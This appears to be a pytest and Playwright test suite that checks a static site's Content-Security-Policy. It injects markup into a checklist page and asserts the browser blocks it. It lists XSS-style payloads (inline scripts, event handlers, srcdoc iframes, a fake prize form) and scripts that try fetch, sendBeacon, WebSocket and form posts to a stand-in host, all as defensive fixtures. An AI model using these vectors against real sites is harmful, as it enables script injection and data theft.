"""What somebody's text could do, had it slipped into the page: nothing."""

import re

import pytest
from playwright.sync_api import Page, expect

from pages.private.personal import Watch
from pages.sites import mkdocs

CHECKLIST = "checklist/index.html"
PATIENCE = 10_000
"""Milliseconds; a browser says at once what it forbids."""
SEND_A_FORM = """(() => {{
  const form = document.createElement("form");
  form.action = "{}/a";
  form.method = "post";
  document.body.append(form);
  form.submit();
}})()"""


def policy_of(html: str) -> str:
    return html.partition('Content-Security-Policy" content="')[2].partition('">')[0]


def page_with(personal, tmp_path, markup: str):
    """The personal site with something slipped into the page of the checklist."""
    html = (personal.personal / CHECKLIST).read_text("utf-8")
    at = html.index("</prune-checklist>")
    site = tmp_path / "site"
    site.mkdir()
    for path in personal.personal.iterdir():
        if path.name != "checklist":
            (site / path.name).symlink_to(path)
    (site / "checklist").mkdir()
    (site / CHECKLIST).write_text(html[:at] + markup + html[at:], "utf-8")
    return site


def wait_for_violations(page: Page, watch: Watch, violations: set[str]) -> None:
    """Until all of them were forbidden; what else was forbidden is an error."""
    for _ in range(PATIENCE // 50):
        if violations <= _plain(watch):
            break
        page.wait_for_timeout(50)
    assert _plain(watch) == violations


def _plain(watch: Watch) -> set[str]:
    return {one.rstrip("/") for one in watch.violations}


def test_the_page_asks_for_nothing_in_advance(personal):
    """Firefox takes `next` for such a request, and says that the policy forbids it."""
    head = (personal.personal / CHECKLIST).read_text("utf-8").partition("</head>")[0]
    asked = re.findall(
        r'<link rel="?(next|prefetch|preload|prerender|preconnect|dns-prefetch)', head
    )
    assert (asked, '<link rel="prev"' in head) == ([], True)


@pytest.fixture(params=["http", "file"])
def opened(request, page, personal, tmp_path, serve):
    """Open the page with something slipped in, over http or by double click."""

    def open_with(markup: str = "") -> Page:
        site = page_with(personal, tmp_path, markup)
        root = serve(site) if request.param == "http" else site.as_uri()
        page.goto(f"{root}/{CHECKLIST}")
        expect(page.get_by_role("article", name="Wren Inkwell")).to_be_visible()
        return page

    return open_with


MARKUP = (
    ("script-src-elem inline", "<script>window.stolen = true</script>"),
    ("script-src-attr inline", "<details open ontoggle='window.stolen = true'></details>"),
    ("script-src-elem inline", "<iframe srcdoc='<script>top.stolen = true</script>'></iframe>"),
    ("script-src-elem {}/1.js", "<script src='{}/1.js'></script>"),
    ("img-src {}/2.png", "<img src='{}/2.png' alt=''>"),
    ("style-src-elem {}/3.css", "<link rel='stylesheet' href='{}/3.css'>"),
    ("style-src-elem inline", "<style>h1 {{ background: url({}/4.png) }}</style>"),
    ("style-src-attr inline", "<p style='background: url({}/5.png)'></p>"),
    ("frame-src {}", "<iframe src='{}/'></iframe>"),
    ("object-src {}", "<object data='{}/6.pdf'></object>"),
    ("object-src {}", "<embed src='{}/7.pdf'>"),
    ("media-src {}/8.mp3", "<audio src='{}/8.mp3' preload='auto'></audio>"),
    ("base-uri {}", "<base href='{}/'>"),
)
"""Each with an address of its own, so that one load tells what became of every one."""


def test_a_strangers_markup_neither_runs_nor_loads(opened, watch, stranger):
    page = opened("".join(markup.format(stranger.address) for _, markup in MARKUP))
    wait_for_violations(
        page, watch, {violation.format(stranger.address) for violation, _ in MARKUP}
    )
    assert (page.evaluate("window.stolen"), stranger.asked) == (None, [])


@pytest.mark.parametrize(
    ("violation", "markup"),
    [one for one in MARKUP if [violation for violation, _ in MARKUP].count(one[0]) > 1],
)
def test_what_is_told_in_the_same_words_is_forbidden_alone_too(
    opened, watch, stranger, violation, markup
):
    page = opened(markup.format(stranger.address))
    wait_for_violations(page, watch, {violation.format(stranger.address)})
    assert (page.evaluate("window.stolen"), stranger.asked) == (None, [])


SCRIPTS = (
    ("connect-src {}/1", "fetch('{}/1').catch(() => 0)"),
    ("connect-src {}/2", "navigator.sendBeacon('{}/2', 'x')"),
    ("connect-src {}/3", "(() => {{ new EventSource('{}/3') }})()"),
    ("connect-src ws:{}/4", "(() => {{ try {{ new WebSocket('ws:{}/4') }} catch {{}} }})()"),
    ("img-src {}/5.png", "(() => {{ new Image().src = '{}/5.png' }})()"),
    ("script-src-elem {}/6.js", "import('{}/6.js').catch(() => 0)"),
    ("form-action {}/a", SEND_A_FORM),
)


def test_not_even_a_script_reaches_another_host(opened, watch, stranger):
    page = opened()
    violations = set()
    for violation, script in SCRIPTS:
        address = stranger.address.removeprefix("http:" if "ws:" in script else "")
        page.evaluate(script.format(address))
        violations.add(violation.format(address))
    wait_for_violations(page, watch, violations)
    assert stranger.asked == []


def test_a_form_with_an_address_is_not_sent(opened, watch, stranger):
    page = opened(
        f"<form action='{stranger.address}/a' method='post'><button>Win a prize</button></form>"
    )
    page.get_by_role("button", name="Win a prize").dispatch_event("click")
    wait_for_violations(page, watch, {f"form-action {stranger.address}/a"})
    assert stranger.asked == []


@pytest.mark.parametrize("of", ["personal", "demo"])
def test_the_policy_allows_the_three_scripts_of_the_theme_and_no_other(request, of):
    result = request.getfixturevalue(of)
    site = result.personal if of == "personal" else result.public
    policy = policy_of((site / CHECKLIST).read_text("utf-8"))
    scripts = policy.partition("script-src")[2].partition(";")[0]
    assert (policy[:18], scripts.count("sha256"), "unsafe" in policy) == (
        "default-src 'none'",
        3,
        False,
    )


def test_a_script_that_comes_with_the_people_is_not_among_those_allowed(home, demo):
    """Had a template stopped escaping: the hashes are those of the page before anybody is in it."""
    template = home / "hooks/prune_page/templates/checklist.html"
    template.write_text(template.read_text("utf-8") + "<script>steal()</script>", "utf-8")
    html = (mkdocs(home, "build").public / CHECKLIST).read_text("utf-8")
    before = (demo.public / CHECKLIST).read_text("utf-8")
    assert "<script>steal()</script>" in html
    assert [policy_of(before)] == [policy_of(html)]
